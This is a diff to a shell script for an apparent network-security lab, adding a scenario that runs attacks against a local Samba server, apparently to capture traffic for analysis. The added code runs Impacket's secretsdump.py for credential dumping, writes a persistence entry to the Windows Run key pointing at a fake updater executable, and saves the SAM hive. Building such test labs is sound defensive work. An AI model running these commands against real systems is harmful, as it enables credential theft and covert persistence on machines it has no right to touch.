@@ -28,6 +28,7 @@ SCENARIOS=(
   09-discovery
   10-many-small-files
   11-benign-baseline
+  12-remote-admin-rpc
 )
 
 D="$LAB_WORK/client/data"   # client-side files (same path inside the client namespace)
@@ -156,6 +157,38 @@ put \"minutes 2024-09-12.docx\"; put \"Résumé – Ünïcødé 日本語.docx\"
     cmds+="; cd \"$p\"; put \"minutes 2024-09-12.docx\"; ls"
     smbc "//$SRV_NAME/docs" -c "$cmds" || true
   }
+}
+
+s_12-remote-admin-rpc() {
+  # eventlog list: Samba serves ElfrOpenELW only for the logs named here (its default is none)
+  SRV_EXTRA="   eventlog list = Security System"; FMT=pcap
+  run() {
+    # Windows-like keys in the server's registry.tdb (local, no traffic), so that secretsdump gets
+    # past the boot-key reads and reg.py finds the Run key; Samba has none of them by default
+    local k
+    for k in 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa\JD' 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa\Skew1' \
+             'HKLM\SYSTEM\CurrentControlSet\Control\Lsa\GBG' 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa\Data' \
+             'HKLM\SAM' 'HKLM\SECURITY' 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'; do
+      srv_net registry createkey "$k" >/dev/null || true
+    done
+    # Samba opens a log only if its tdb exists and checks that file's ACL: give alice the Security log
+    local E="$LAB_WORK/server/var/lib/samba/eventlog"
+    mkdir -p "$E"
+    "$PY" -c 'import sys, os, tdb; tdb.Tdb(sys.argv[1], 0, tdb.DEFAULT, os.O_RDWR | os.O_CREAT, 0o660).close()' "$E/security.tdb"
+    chown "$LAB_UID:$LAB_GID" "$E/security.tdb"
+    IMPK_TIMEOUT=60 impk secretsdump.py -target-ip "$SRV_IP" "$IMPK_TARGET" </dev/null >"$LAB_WORK/secretsdump.log" 2>&1 || true
+    IMPK_TIMEOUT=30 impk reg.py -target-ip "$SRV_IP" "$IMPK_TARGET" add -keyName 'HKLM\Software\Microsoft\Windows\CurrentVersion\Run' \
+      -v LabUpdater -vt REG_SZ -vd 'C:\Windows\Temp\svcupdate.exe' </dev/null >"$LAB_WORK/reg-add.log" 2>&1 || true
+    IMPK_TIMEOUT=30 impk reg.py -target-ip "$SRV_IP" "$IMPK_TARGET" save -keyName 'HKLM\SAM' -o 'C:\Windows\Temp' \
+      </dev/null >"$LAB_WORK/reg-save.log" 2>&1 || true
+    cli 60 -- "$PY" "$LAB_DIR/remote_admin_rpc.py" "$SRV_NAME" "$SRV_IP" "$LAB_DOMAIN" "$LAB_USER" "$LAB_PASS" "$CLI_NAME" \
+      >"$LAB_WORK/remote_admin_rpc.log" 2>&1 || true
+  }
+}
+# srv_net ARGS...: Samba's `net` on the server's private state (same mounts as smbd, no network).
+# No PID namespace: net's messaging lock is named by PID, and PID 1 is smbd's.
+srv_net() {
+  ip netns exec "$NS_SRV" unshare --mount --fork "$LAB_DIR/nsroot.sh" server net -s /etc/samba/smb.conf "$@"
 }
 
 # ------------------------------------------------------------------------------------------
